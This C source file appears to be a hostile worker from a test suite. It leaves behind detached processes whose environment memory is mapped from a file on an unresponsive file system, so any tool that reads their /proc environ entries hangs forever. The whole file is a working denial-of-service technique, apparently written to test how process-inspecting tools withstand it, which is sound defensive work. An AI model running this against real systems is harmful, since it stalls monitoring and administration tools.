/*
 * A worker leaves processes behind whose environment is mapped from a file of a file system that
 * does not answer: whoever reads it in /proc waits for ever.
 *
 * worker_hung_memory FILE COUNT
 */
#include <fcntl.h>
#include <stdbool.h>
#include <sys/mman.h>
#include <sys/wait.h>

#include "hostile.h"

#define PADDING (100 << 10)
#define PAGE 4096ul

extern char **environ;

/* Once more, with so much in front of the environment that there are pages of nothing else. */
static void execute_padded(char **argv)
{
    static char padding[PADDING];
    char *larger[256] = {padding};
    int count = 1;

    memset(padding, 'x', sizeof padding - 1);
    memcpy(padding, "PADDING=", 8);
    for (char **each = environ; *each && count < 255; each++)
        larger[count++] = *each;
    execve("/proc/self/exe", argv, larger);
    die("execve");
}

static void hide_environment(const char *path)
{
    unsigned long at = ((unsigned long)getenv("PADDING") + 2 * PAGE) & ~(PAGE - 1);
    int fd = open(path, O_RDONLY);

    if (fd < 0 ||
        mmap((void *)at, PADDING / 2, PROT_READ, MAP_PRIVATE | MAP_FIXED, fd, 0) == MAP_FAILED)
        die(path);
}

int main(int argc, char **argv)
{
    if (argc < 3)
        return 2;
    alarm(60); /* others read environments, too */
    if (!getenv("PADDING"))
        execute_padded(argv);
    for (int i = 0; i < atoi(argv[2]); i++) {
        if (fork() == 0) {
            if (fork() != 0)
                _exit(0);
            hide_environment(argv[1]);
            for (;;)
                pause();
        }
        wait(NULL);
    }
    puts("attacks done");
    fflush(stdout);
    for (;;)
        pause();
}
